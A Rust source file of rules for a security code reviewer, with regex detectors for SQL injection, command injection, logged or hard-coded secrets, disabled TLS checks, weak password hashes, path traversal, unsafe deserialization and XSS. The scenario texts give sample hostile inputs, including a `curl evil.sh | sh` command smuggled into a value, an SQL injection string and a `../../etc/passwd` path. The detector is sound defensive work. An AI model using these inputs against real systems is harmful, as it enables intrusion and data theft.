//! Security: injection, secrets, certificates, hashes, paths.

use crate::demo::finding::Severity::{Critical, Warning};
use crate::demo::language::Language;
use crate::demo::pattern::{found, group};
use crate::demo::rule::{Rule, Scope};
use crate::demo::spot::Spot;

pub(super) const RULES: &[Rule] = &[
    Rule {
        category: "sql-injection",
        severity: Critical,
        confidence: 0.95,
        scope: Scope::Code,
        claim: "The SQL statement is built by putting values into its text, so input can change the statement.",
        scenario: "A value such as `x' OR '1'='1` becomes part of the SQL and returns or changes rows of other users.",
        fix: "Pass the values as bound parameters instead of building the text.",
        check: |spot| built_sql(spot).then(String::new),
    },
    Rule {
        category: "command-injection",
        severity: Critical,
        confidence: 0.92,
        scope: Scope::Code,
        claim: "A shell command is put together from values, so input can run other commands.",
        scenario: "A value such as `x; curl evil.sh | sh` is executed by the shell with the rights of this process.",
        fix: "Call the program with a list of arguments and without a shell.",
        check: |spot| shell_from_values(spot).then(String::new),
    },
    Rule {
        category: "secret-in-log",
        severity: Critical,
        confidence: 0.9,
        scope: Scope::Code,
        claim: "The secret `{}` is written to the log.",
        scenario: "Everybody who can read the logs can read `{}` and use it.",
        fix: "Leave `{}` out of the message, or log only that it is set.",
        check: logged_secret,
    },
    Rule {
        category: "tls-verification-off",
        severity: Critical,
        confidence: 0.93,
        scope: Scope::CodeAndData,
        claim: "The certificate of the server is not verified on this connection.",
        scenario: "Whoever sits between client and server reads and changes the traffic, credentials included.",
        fix: "Leave verification on; add the private CA to the trusted ones where one is needed.",
        check: |spot| unverified_tls(spot).then(String::new),
    },
    Rule {
        category: "weak-password-hash",
        severity: Critical,
        confidence: 0.9,
        scope: Scope::Code,
        claim: "A password is hashed with {}, which is far too fast for passwords.",
        scenario: "With a leaked table, billions of guesses a second recover most passwords within hours.",
        fix: "Use argon2id, scrypt or bcrypt with a salt for each password.",
        check: weak_hash,
    },
    Rule {
        category: "hard-coded-secret",
        severity: Critical,
        confidence: 0.9,
        scope: Scope::CodeAndData,
        claim: "The value of `{}` is a secret in the source.",
        scenario: "Everybody with read access to the repository, now or from its history, can use the secret.",
        fix: "Read it from the environment or a secret store, and revoke this one.",
        check: literal_secret,
    },
    Rule {
        category: "path-traversal",
        severity: Critical,
        confidence: 0.88,
        scope: Scope::Code,
        claim: "The path is made from `{}`, which comes from the request, without a check that it stays in its directory.",
        scenario: "A request with `../../etc/passwd` reads or writes a file outside of the directory.",
        fix: "Resolve the path and refuse it unless it lies below the base directory.",
        check: path_from_user,
    },
    Rule {
        category: "unsafe-deserialization",
        severity: Critical,
        confidence: 0.88,
        scope: Scope::Code,
        claim: "Data from outside is turned into code or objects by {}.",
        scenario: "A crafted input runs code of its author in this process.",
        fix: "Use a parser of data only: JSON, or the safe loader.",
        check: unsafe_load,
    },
    Rule {
        category: "cross-site-scripting",
        severity: Warning,
        confidence: 0.82,
        scope: Scope::Code,
        claim: "`{}` goes into the page as HTML, unescaped.",
        scenario: "A value with a script tag or an event handler runs in the browser of whoever sees it.",
        fix: "Set the text content, or sanitise the HTML first.",
        check: raw_html,
    },
];

/// What is as much a bug as a hole: a critical problem is reported by whoever sees it, so the reviewer of bugs does too.
pub(super) const ALSO_BUGS: &[Rule] = &[Rule {
    category: "sql-injection",
    severity: Critical,
    confidence: 0.9,
    scope: Scope::Code,
    claim: "A quote character in a value ends the string in the SQL early, and the statement breaks or means something else.",
    scenario: "A value such as `O'Brien` fails with a syntax error; a crafted one changes the statement.",
    fix: "Pass the values as bound parameters instead of building the text.",
    check: |spot| (built_sql(spot) && found!(spot.text(), r#"'\$?\{[^{}]*\}'|'%s'|'["`]\s*[+.]"#)).then(String::new),
}];

/// Returns whether a text is SQL; lower case needs one more keyword, as prose also selects from things.
fn is_sql(text: &str) -> bool {
    found!(
        text,
        r"\bSELECT\b.+\bFROM\b|\bINSERT\s+INTO\b|\bUPDATE\s+\S+\s+SET\b|\bDELETE\s+FROM\b"
    ) || found!(
        text,
        r"(?i)\b(select\b.+\bfrom|update\s+\S+\s+set|delete\s+from)\b.+\bwhere\b|insert\s+into\b.+\bvalues\b"
    )
}

fn built_sql(spot: &Spot) -> bool {
    let text = spot.text();
    if !is_sql(text) || spot.code().is_empty() || found!(text, r"(?i)\b(log(ger)?\.\w+|print|raise|throw|error)\b") {
        return false;
    }
    let interpolated = match spot.language() {
        Language::Python => {
            found!(text, r#"\b[fF][rR]?("|').*\{[^{}]*[a-z][^{}]*\}"#)
                || found!(text, r#"("|')\s*%\s*[(\w]"#)
                || found!(text, r#"("|')\s*\.format\("#)
        }
        Language::JavaScript => {
            group!(text, r"(\w*)\s*`[^`]*\$\{[^}]*[a-z]").is_some_and(|tag| !matches!(tag, "sql" | "SQL" | "gql"))
        }
        Language::Rust => found!(text, r#"format!\(\s*r?#?"[^"]*\{[^}]*\}"#),
        Language::Go => found!(text, r#"Sprintf\(\s*["`][^"`]*%[sv]"#),
        Language::Php => found!(text, r#""[^"]*\$\w+"#),
        Language::Ruby => found!(text, r"#\{[^}]*[a-z]"),
        _ => found!(text, r#"String\.format\(\s*"[^"]*%s|\$"[^"]*\{"#),
    };
    let concatenated =
        found!(text, r#"["'`]\s*(\+|\.)\s*\$?[a-z_]\w*"#) && !found!(text, r#"["']\.(format|join|to_|into)"#);
    (interpolated || concatenated) && !found!(text, r"(?i)placeholders|\.join\(|quote_ident|escape")
}

fn shell_from_values(spot: &Spot) -> bool {
    let (text, code) = (spot.text(), spot.code());
    let composed = |call: &str| {
        found!(
            call,
            r#"\b[fF]("|').*\{|["']\s*[+%]\s*\w|\w\s*\+\s*["']|\.format\(|`[^`]*\$\{|\$\w+"#
        )
    };
    match spot.language() {
        Language::Python if code.contains("shell=True") => {
            let call = spot.with_before(6);
            let start = call.rfind("subprocess.").or_else(|| call.rfind("Popen("));
            start.is_some_and(|start| composed(&call[start..]))
        }
        Language::Python => found!(code, r"\bos\.(system|popen)\(") && composed(text),
        Language::JavaScript => {
            found!(code, r"\b(exec|execSync)\(") && !found!(code, r"\.exec\(") && composed(text)
                || found!(code, r"\bchild_process\.exec(Sync)?\(") && composed(text)
        }
        Language::Php => found!(code, r"\b(shell_exec|system|passthru|exec)\(") && composed(text),
        Language::Go => found!(text, r#"exec\.Command\(\s*"(ba)?sh",\s*"-c",\s*.*(\+\s*\w|Sprintf)"#),
        Language::Rust => {
            found!(text, r"\.arg\(\s*&?format!\(") && found!(&spot.with_before(4), r#"Command::new\("(ba)?sh"\)"#)
        }
        _ => false,
    }
}

fn logged_secret(spot: &Spot) -> Option<String> {
    let text = spot.text();
    let logs = found!(
        spot.code(),
        r"(?i)\b(log|logger|logging|slog|tracing)(\.|::)\w+!?\(|\bconsole\.(log|info|warn|error|debug)\(|\b(print|println|eprintln|printf|puts|error_log)!?\s*\(|\b(trace|debug|info|warn|error)!\("
    );
    if !logs || found!(text, r"(?i)redact|mask|hash|len\(|\.length|scrub|\*\*\*") {
        return None;
    }
    // What is said in words is no secret: only names in the code or in an interpolation count.
    let interpolated: String = text.split(['{', '}']).skip(1).step_by(2).collect::<Vec<_>>().join(" ");
    let interpolated = if text.contains('{') {
        interpolated
    } else {
        String::new()
    };
    let candidates = format!("{} {interpolated}", spot.code());
    group!(
        &candidates,
        r"(?i)\b((?:\w+\.)*\w*(?:password|passwd|secret|secret_key|api_?key|private_?key|(?:access|auth|refresh|bearer|session|api|reset)_?token))\b(?:[^(:=\w]|$)"
    )
    .map(str::to_owned)
}

fn unverified_tls(spot: &Spot) -> bool {
    let code = spot.code();
    found!(
        code,
        r"\brejectUnauthorized\s*:\s*false|\bInsecureSkipVerify\s*:\s*true|danger_accept_invalid_(certs|hostnames)\(true\)|_create_unverified_context|CURLOPT_SSL_VERIFY(PEER|HOST)\s*(,|=>)\s*(false|0)|\bVERIFY_NONE\b|\bCERT_NONE\b"
    ) || found!(spot.text(), r"NODE_TLS_REJECT_UNAUTHORIZED\W+0\b")
        || found!(code, r"\bverify\s*=\s*False\b")
            && found!(&spot.with_before(6), r"\b(requests|httpx|aiohttp|session|client)\b")
}

fn weak_hash(spot: &Spot) -> Option<String> {
    let text = spot.text();
    let hash = group!(text, r#"(?i)\b(md5|sha1)\b\s*(?:\(|::|\.|["'])"#)?;
    found!(text, r"(?i)passw(or)?d|\bpwd\b|passphrase").then(|| hash.to_uppercase())
}

fn literal_secret(spot: &Spot) -> Option<String> {
    let text = spot.text();
    if spot.code().is_empty()
        || found!(
            text,
            r"(?i)example|placeholder|dummy|changeme|your[_-]|xxxx|<[a-z]|\$\{|\{\{|getenv|environ|process\.env"
        )
    {
        return None;
    }
    if let Some(name) = group!(
        text,
        r#"(\w+)["']?\s*(?::|=|:=)\s*["'](?:sk-[A-Za-z0-9_-]{16,}|sk_live_\w{16,}|AKIA[0-9A-Z]{16}|gh[po]_\w{30,}|glpat-[\w-]{16,}|xox[bp]-[\w-]{20,})["']"#
    ) {
        return Some(name.to_owned());
    }
    if text.contains("-----BEGIN") && text.contains("PRIVATE KEY-----") {
        return Some("private key".to_owned());
    }
    let name = group!(
        text,
        r#"(?i)\b(\w*(?:api_?key|secret|secret_?key|password|passwd|access_?token|auth_?token|private_?key))["']?\s*(?::|=|:=)\s*["'][^"'\s]{8,}["']"#
    )?;
    let value = group!(text, r#"(?::|=)\s*["']([^"'\s]{8,})["']"#)?;
    let strong = value.chars().any(|c| c.is_ascii_digit())
        && value.chars().any(char::is_alphabetic)
        && (value.len() >= 16 || name.to_ascii_lowercase().contains("passw"))
        && !found!(value, r"^(https?:|/|\.|[a-z]+(_[a-z]+)+\d?$|[A-Z_]+\d?$)");
    strong.then(|| name.to_owned())
}

/// Names that hold a value of the request, and the expressions that are one.
fn from_request(spot: &Spot) -> Vec<String> {
    const SOURCE: &str = r"request\.(args|form|values|json|files|GET|POST|query_params)|\breq\.(query|params|body)|\$_(GET|POST|REQUEST)|\br\.URL\.Query|\br\.FormValue|searchParams";
    static SOURCES: std::sync::LazyLock<regex::Regex> =
        std::sync::LazyLock::new(|| crate::demo::pattern::compile(SOURCE));
    let mut names: Vec<String> = SOURCES
        .find(spot.text())
        .into_iter()
        .map(|hit| hit.as_str().to_owned())
        .collect();
    for line in spot.before(40) {
        let text = line.text.as_str();
        if SOURCES.is_match(text) {
            let left = text.split('=').next().unwrap_or_default();
            let words = left.split(|c: char| !c.is_alphanumeric() && c != '_');
            names.extend(
                words
                    .filter(|word| !matches!(*word, "" | "const" | "let" | "var" | "str"))
                    .map(str::to_owned),
            );
        }
        names.extend(group!(text, r"@\w+\.(?:route|get|post)\([^)]*<(?:\w+:)?(\w+)>").map(str::to_owned));
        names.extend(group!(text, r"@\w+\.(?:get|post)\([^)]*\{(\w+)(?::\w+)?\}").map(str::to_owned));
    }
    names
}

fn path_from_user(spot: &Spot) -> Option<String> {
    let joins = found!(
        spot.code(),
        r"\bos\.path\.join\(|\bpath\.(join|resolve)\(|\bfilepath\.Join\(|\bPath\(|\bopen\(|\b(fs\.)?(readFile|writeFile|createReadStream)(Sync)?\(|\b(sendFile|send_file|FileResponse)\("
    );
    if !joins {
        return None;
    }
    let around: String = spot
        .before(12)
        .chain(spot.after(6))
        .map(|line| line.text.as_str())
        .collect::<Vec<_>>()
        .join("\n");
    let checked = |text: &str| {
        found!(
            text,
            r"secure_filename|basename|realpath|relative_to|commonpath|startsWith|startswith|normalize|filepath\.Clean|safe_join|send_from_directory"
        )
    };
    if checked(&around) || checked(spot.text()) {
        return None;
    }
    let arguments = &spot.text()[spot.text().find('(')?..];
    from_request(spot).into_iter().find(|name| {
        arguments.match_indices(name.as_str()).any(|(at, _)| {
            let word = |c: char| c.is_alphanumeric() || c == '_' || c == '.';
            !arguments[..at].ends_with(word)
                && !arguments[at + name.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_' || c == '=')
        })
    })
}

fn unsafe_load(spot: &Spot) -> Option<String> {
    let code = spot.code();
    match spot.language() {
        Language::Python if found!(code, r"\byaml\.load\(") && !found!(code, r"Safe|CSafe") => {
            Some("yaml.load".to_owned())
        }
        Language::Python | Language::JavaScript => {
            let call = group!(code, r"(?:^|[^.\w])(pickle\.loads?|marshal\.loads|eval)\(")?;
            let request = from_request(spot);
            request
                .iter()
                .any(|name| found_word(spot.text(), name))
                .then(|| call.to_owned())
        }
        Language::Php => group!(spot.text(), r"\b(unserialize)\(\s*\$_").map(str::to_owned),
        _ => None,
    }
}

fn found_word(text: &str, name: &str) -> bool {
    text.split(|c: char| !c.is_alphanumeric() && c != '_' && c != '.')
        .any(|word| word == name || word.starts_with(&format!("{name}.")))
        || name.contains('.') && text.contains(name)
}

fn raw_html(spot: &Spot) -> Option<String> {
    if spot.language() != Language::JavaScript || found!(spot.text(), r"(?i)sanitize|purify|escape") {
        return None;
    }
    group!(spot.code(), r"\.innerHTML\s*=\s*([A-Za-z_$][\w.$]*)\s*;?\s*$")
        .or_else(|| {
            group!(
                spot.code(),
                r"dangerouslySetInnerHTML=\{\{\s*__html:\s*([A-Za-z_$][\w.$]*)"
            )
        })
        .map(str::to_owned)
}
